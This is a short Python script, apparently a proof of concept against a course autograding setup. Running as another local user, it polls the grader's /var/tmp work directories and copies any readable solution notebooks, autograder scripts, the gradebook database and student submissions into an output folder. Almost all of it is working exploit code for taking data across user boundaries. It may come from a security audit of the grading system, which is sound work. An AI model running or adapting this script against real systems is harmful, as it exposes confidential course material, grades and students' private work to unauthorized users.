"""Any local account (uid 4242): while the TA's suite grades its attack class as uid 65534 in /var/tmp, list and copy
what of the course it can read there (solutions in source/, judges in autograders/, hand-ins, gradebook)."""
import glob, os, sys, time
out, end, got = sys.argv[1], time.time() + float(sys.argv[2]), set()
print("grabber uid", os.getuid(), flush=True)
pats = ["/var/tmp/distcourse-attacks-nobody-*/**/source/**/*.ipynb", "/var/tmp/distcourse-attacks-nobody-*/**/autograders/*.py",
        "/var/tmp/distcourse-attacks-nobody-*/**/gradebook.db", "/var/tmp/distcourse-attacks-nobody-*/**/submitted/**/*.ipynb"]
while time.time() < end:
    for pat in pats:
        for path in glob.glob(pat, recursive=True):
            if path in got:
                continue
            try:
                data = open(path, "rb").read()
            except OSError as exc:
                got.add(path); print(time.strftime("%H:%M:%S"), "cannot read", path, exc.strerror, flush=True); continue
            got.add(path)
            open(os.path.join(out, path.strip("/").replace("/", "__")), "wb").write(data)
            print(time.strftime("%H:%M:%S"), "read", path, len(data), "bytes", flush=True)
    time.sleep(0.2)
